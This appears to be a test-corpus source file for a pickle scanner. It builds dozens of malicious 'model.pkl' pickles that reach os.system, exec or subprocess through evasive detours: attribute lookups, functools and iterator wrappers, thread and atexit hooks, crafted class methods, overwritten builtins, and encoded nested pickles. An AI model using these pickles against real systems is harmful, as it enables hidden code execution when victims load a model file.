"""Pickles that reach a function by detours: attributes, wrappers, iterators, classes, hooks, nested pickles."""

# ruff: noqa: E501  # a table: one technique stays on one line where it can

from __future__ import annotations

import base64
import codecs
import marshal
import zlib

from tests.corpus.opcodes import (
    Code,
    built,
    call,
    integer,
    made,
    method,
    name,
    old_name,
    old_program,
    program,
    text,
    value,
)
from tests.corpus.payload import CODE, EXPRESSION, SHELL
from tests.corpus.technique import table

SYSTEM = name("os:system")
EXEC = name("builtins:exec")
OS = name("posixpath:os")
INNER = program(call("os:system", SHELL))
GLOBALS = call("builtins:dict", [("__builtins__", name("builtins:__dict__"))])
# Popen's first eleven parameters: whatever a hook passes is the twelfth, which takes any object.
HOOK = call("functools:partial", name("subprocess:Popen"), ["sh", "-c", SHELL], -1, None, None, None, None, None,
            True, False, None, None)  # fmt: skip
LATER = call("functools:partial", SYSTEM, SHELL)


def klass(**members: object) -> Code:
    """`type("X", (), members)`."""
    return call("builtins:type", "X", (), members)


def consumed(iterator: Code) -> bytes:
    """A program that runs the iterator to its end."""
    return program(call("builtins:list", iterator))


def _marshalled() -> bytes:
    function = call("types:FunctionType", call("marshal:loads", marshal.dumps(compile(CODE, "m", "exec"))),
                    GLOBALS)  # fmt: skip
    return program(call(function))


def _code_object() -> bytes:
    it = compile(CODE, "m", "exec")
    code = call("types:CodeType", 0, 0, 0, it.co_nlocals, it.co_stacksize, it.co_flags, it.co_code,
                it.co_consts, it.co_names, it.co_varnames, "m", "m", "m", 1, it.co_linetable,
                it.co_exceptiontable)  # fmt: skip
    return program(call(call("types:FunctionType", code, GLOBALS)))


table("pickle-attributes", "model.pkl", "pickle", {
    "getattr-module": program(call(call("builtins:getattr", OS, "system"), SHELL)),
    "getattr-import": program(call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), SHELL)),
    "dotted-name": program(call("posixpath:os.system", SHELL)),
    "dotted-name-in-logging": program(call("logging:os.system", SHELL)),
    "dotted-builtins": program(call("json:__builtins__.get", "x"),
                               call(call("json:__builtins__.get", "exec"), CODE)),
    "dotted-sys-modules": program(call(call("builtins:getattr", call("sys:modules.get", "os"), "system"), SHELL)),
    "dotted-globals": program(call(call("os:walk.__globals__.get", "system"), SHELL)),
    "dotted-self": program(call("builtins:print.__self__.exec", CODE)),
    "dotted-subclasses": program(call("builtins:object.__subclasses__"), call("builtins:exec", CODE)),
    "attrgetter": program(call(call(call("operator:attrgetter", "system"), OS), SHELL)),
    "attrgetter-chain": program(call(call(call("operator:attrgetter", "os.system"), name("os:path")), SHELL)),
    "methodcaller": program(call(call("operator:methodcaller", "system", SHELL), OS)),
    "itemgetter": program(call(call(call("operator:itemgetter", "exec"), name("builtins:__dict__")), CODE)),
    "getitem": program(call(call("operator:getitem", name("builtins:__dict__"), "exec"), CODE)),
    "dict-get": program(call(call("builtins:dict.get", name("builtins:__dict__"), "exec"), CODE)),
    "vars": program(call(call("operator:getitem", call("builtins:vars", OS), "system"), SHELL)),
    "object-getattribute": program(call(call("builtins:object.__getattribute__", OS, "system"), SHELL)),
    "resolve-name": program(call(call("pkgutil:resolve_name", "os:system"), SHELL)),
    "pydoc-locate": program(call(call("pydoc:locate", "os.system"), SHELL)),
    "logging-resolve": program(call(call("logging.config:_resolve", "os.system"), SHELL)),
    "logging-dict-config": program(call("logging.config:dictConfig", {
        "version": 1, "formatters": {"x": {"()": "os.system", "command": SHELL}}})),
    "formatter-get-field": program(call(call(call("operator:itemgetter", 0),
        call("string:Formatter.get_field", call("string:Formatter"), "0.system", [OS], {})), SHELL)),
    "inspect-getattr-static": program(call(call("inspect:getattr_static", OS, "system"), SHELL)),
    "encodings-import": program(call(
        call("builtins:getattr", call("importlib:__import__", "subprocess"), "getoutput"), SHELL)),
})  # fmt: skip

table("pickle-wrappers", "model.pkl", "pickle", {
    "partial": program(call(LATER)),
    "partial-newobj": program(call(made("functools:partial", SYSTEM, SHELL))),
    "partial-state": program(call(built(made("functools:partial", name("builtins:print")),
                                        (SYSTEM, (SHELL,), None, None)))),
    "reduce": program(call("functools:reduce", EXEC, [{}], CODE)),
    "functools-reduce-eval": program(call("_functools:reduce", name("builtins:eval"), [{}], EXPRESSION)),
    "lru-cache": program(call(call("functools:lru_cache", SYSTEM), SHELL)),
    "singledispatch": program(call(call("functools:singledispatch", SYSTEM), SHELL)),
    "operator-call": program(call("operator:call", SYSTEM, SHELL)),
    "call-frames-removed": program(call("importlib._bootstrap:_call_with_frames_removed", SYSTEM, SHELL)),
    "method-type": program(call(call("types:MethodType", SYSTEM, SHELL))),
    "dunder-call": program(call("types:BuiltinFunctionType.__call__", SYSTEM, SHELL)),
    "map": consumed(call("builtins:map", SYSTEM, [SHELL])),
    "map-newobj": program(call("builtins:list", made("builtins:map", SYSTEM, [SHELL]))),
    "filter": consumed(call("builtins:filter", SYSTEM, [SHELL])),
    "starmap": consumed(call("itertools:starmap", SYSTEM, [(SHELL,)])),
    "accumulate": consumed(call("itertools:accumulate", [CODE, {}], EXEC)),
    "takewhile": consumed(call("itertools:takewhile", SYSTEM, [SHELL])),
    "groupby": consumed(call("itertools:groupby", [SHELL], SYSTEM)),
    "call-iterator": consumed(call("builtins:iter", LATER, 0)),
    "zip": consumed(call("builtins:zip", call("builtins:map", SYSTEM, [SHELL]))),
    "deque-newobj": program(made("collections:deque"), call("collections:deque", call("builtins:map", SYSTEM, [SHELL]))),
    "bytes-newobj": program(made("builtins:bytes", call("builtins:map", SYSTEM, [SHELL]))),
    "tuple-newobj": program(made("builtins:tuple", call("builtins:map", SYSTEM, [SHELL]))),
    "frozenset-newobj": program(made("builtins:frozenset", call("builtins:map", SYSTEM, [SHELL]))),
    "dict-fromkeys": program(call("builtins:dict.fromkeys", call("builtins:map", SYSTEM, [SHELL]))),
    "list-extend": program(call("builtins:list.extend", [], call("builtins:map", SYSTEM, [SHELL]))),
    "any": program(call("builtins:any", call("builtins:map", SYSTEM, [SHELL]))),
    "sorted-key": program(call(name("functools:partial") + value((name("builtins:sorted"),))
                               + value({"key": SYSTEM}) + b"\x92", [SHELL])),
    "max-key": program(call(name("functools:partial") + value((name("builtins:max"),))
                            + value({"key": SYSTEM}) + b"\x92", [SHELL, SHELL])),
    "re-sub-callback": program(call("re:sub", "x", HOOK, "x")),
    "exit-stack": program(
        call("contextlib:ExitStack.callback", call("contextlib:ExitStack") + b"\x94", SYSTEM, SHELL),
        call("contextlib:ExitStack.close", Code(b"h\x00"))),
    "context-run": program(call("contextvars:Context.run", call("contextvars:Context"), SYSTEM, SHELL)),
    "thread-start-new": program(call("_thread:start_new_thread", SYSTEM, (SHELL,)), call("time:sleep", 0.3)),
    "thread-timer": program(method("threading:Timer", "run", call("threading:Timer", 0, SYSTEM, [SHELL]))),
    "thread-start": program(method("threading:Thread", "start",
                                   call("threading:Thread", None, SYSTEM, "x", (SHELL,)))),
    "process-start": program(method("multiprocessing:Process", "start",
                                    call("multiprocessing:Process", None, SYSTEM, "x", (SHELL,)))),
    "thread-pool": program(call("concurrent.futures:ThreadPoolExecutor.submit",
                                call("concurrent.futures:ThreadPoolExecutor"), SYSTEM, SHELL)),
    "multiprocessing-pool": program(call("multiprocessing.pool:ThreadPool.apply",
                                         call("multiprocessing.pool:ThreadPool", 1), SYSTEM, (SHELL,))),
    "work-item": program(call("concurrent.futures.thread:_WorkItem.run",
        call("concurrent.futures.thread:_WorkItem", call("concurrent.futures:Future"), SYSTEM, (SHELL,), {}))),
    "atexit": program(call("atexit:register", SYSTEM, SHELL)),
    "weakref-finalize": program(call("weakref:finalize", klass(), SYSTEM, SHELL)),
    "multiprocessing-finalize": program(call("multiprocessing.util:Finalize", None, SYSTEM, (SHELL,), None, 0)),
    "defaultdict-missing": program(call("operator:getitem", call("collections:defaultdict", LATER), 0)),
    "functools-cached-property": program(call("functools:cached_property.__get__",
        built(call("functools:cached_property", call("operator:methodcaller", "system", SHELL)),
              {"attrname": "x"}), OS)),
    "property-fget": program(call("builtins:property.__get__",
                                  call("builtins:property", call("operator:methodcaller", "system", SHELL)), OS)),
})  # fmt: skip

table("pickle-classes", "model.pkl", "pickle", {
    "del-method": program(call(klass(__del__=LATER)), integer(1)),
    "setstate-method": program(built(call(klass(__setstate__=SYSTEM)), SHELL)),
    "class-slots-state": program(
        call(call(built(klass(), (None, {"__call__": SYSTEM}))), SHELL)),
    "hash-method": program(Code(b"}" + call(klass(__hash__=LATER)) + b"K\x01s")),
    "iter-method": program(call("builtins:list", call(klass(__iter__=LATER)))),
    "init-method": program(call(klass(__init__=LATER))),
    "new-method": program(klass(__new__=HOOK) + b")\x81"),
    "getattr-method": program(call("builtins:getattr", call(klass(__getattr__=SYSTEM)), SHELL)),
    "contains-method": program(call("operator:contains", call(klass(__contains__=SYSTEM)), SHELL)),
    "extend-method": program(call(klass(extend=HOOK, append=HOOK)) + b"(" + text(SHELL) + b"e"),
    "setitem-method": program(call(klass(__setitem__=name("builtins:exec"))) + text(CODE) + b"}s"),
    "reduce-method": program(call("copy:copy", call(klass(__reduce_ex__=HOOK)))),
    "copy-method": program(call("copy:copy", call(klass(__copy__=HOOK)))),
    "types-new-class": program(call("types:new_class", "X", (), {}, HOOK)),
    "mro-entries": program(call("types:resolve_bases", (call(klass(__mro_entries__=HOOK)),))),
    "class-getitem": program(call("operator:getitem", klass(__class_getitem__=SYSTEM), SHELL)),
    "call-method": program(call(call(klass(__call__=SYSTEM)), SHELL)),
    "copyreg-newobj-ex": program(call(call("copyreg:__newobj_ex__", name("functools:partial"),
                                           (SYSTEM, SHELL), {}))),
    "copyreg-newobj": program(call("copyreg:__newobj__", name("builtins:tuple"),
                                   call("builtins:map", SYSTEM, [SHELL]))),
    "copyreg-reconstructor": program(call("copyreg:_reconstructor", name("builtins:tuple"),
                                          name("builtins:tuple"), call("builtins:map", SYSTEM, [SHELL]))),
    "function-marshal": _marshalled,
    "function-code-type": _code_object,
    "function-compile": program(call(call("types:FunctionType", call("builtins:compile", CODE, "m", "exec"),
                                          GLOBALS))),
    "function-code-swap": program(call("builtins:setattr", name("json:dumps"), "__code__",
                                       call("builtins:compile", CODE, "m", "exec")), call("json:dumps")),
})  # fmt: skip

table("pickle-overwrites", "model.pkl", "pickle-used", {
    "print-replaced": program(built(name("codecs:builtins"), {"print": LATER})),
    "builtins-setitem": program(call("operator:setitem", name("builtins:__dict__"), "print", LATER)),
    "setattr-module": program(call("builtins:setattr", name("codecs:builtins"), "print", LATER)),
    "json-replaced": program(built(call("sys:modules.get", "json"), {"dumps": HOOK})),
    "sys-modules-set": program(name("sys:modules") + text("json") + OS + b"s",
                               call(name("json:system"), SHELL)),
    "sys-modules-self": program(name("sys:modules") + text("sys") + name("sys:modules") + b"s",
                                call(call("builtins:getattr", call(name("sys:get"), "os"), "system"), SHELL)),
    "stdout-replaced": program(built(call("sys:modules.get", "sys"), {"stdout": call(klass(write=HOOK))})),
    "class-attribute": program(call("builtins:setattr", name("json:JSONEncoder"), "encode",
                                    HOOK)),
    "repr-of-result": program(call(klass(__repr__=LATER))),
    "eq-of-result": program(call(klass(__eq__=SYSTEM, __hash__=LATER))),
    "result-is-callable": program(LATER),
})  # fmt: skip


table("pickle-nested", "model.pkl", "pickle", {
    "pickle-loads": program(call("pickle:loads", INNER)),
    "c-pickle-loads": program(call("_pickle:loads", INNER)),
    "python-2-cpickle": old_program(call(old_name("cPickle:loads"), INNER)),
    "pickle-python-loads": program(call("pickle:_loads", INNER)),
    "pickle-load-bytesio": program(call("pickle:load", call("io:BytesIO", INNER))),
    "unpickler-load": program(method("pickle:Unpickler", "load",
                                     call("pickle:Unpickler", call("io:BytesIO", INNER)))),
    "forking-pickler": program(call("multiprocessing.reduction:ForkingPickler.loads", INNER)),
    "lib2to3-grammar": program(method("lib2to3.pgen2.grammar:Grammar", "loads",
                                      call("lib2to3.pgen2.grammar:Grammar"), INNER)),
    "base64-inner": program(call("pickle:loads", call("base64:b64decode", base64.b64encode(INNER)))),
    "zlib-inner": program(call("pickle:loads", call("zlib:decompress", zlib.compress(INNER)))),
    "exec-base64": program(call("builtins:exec", call(
        "base64:b64decode", base64.b64encode(CODE.encode())))),
    "exec-codecs-rot13": program(call("builtins:exec", call(
        "codecs:decode", codecs.encode(CODE, "rot13"), "rot13"))),
    "exec-joined": program(call("builtins:exec", call("builtins:str.join", "", list(CODE)))),
    "exec-chr": program(call("builtins:exec", call("builtins:bytes", list(CODE.encode())))),
    "three-levels": program(call("pickle:loads", program(call("pickle:loads", INNER)))),
    "shelve-beside": lambda: {"model.pkl": program(call("operator:getitem", call("shelve:open", "s"), "a")),
                              "s.dat": INNER, "s.dir": f"'a', (0, {len(INNER)})\n".encode()},
    "computed-path": program(call("builtins:open", call("builtins:str.replace", "hauberk+mark", "+", "-"), "w")),
})  # fmt: skip
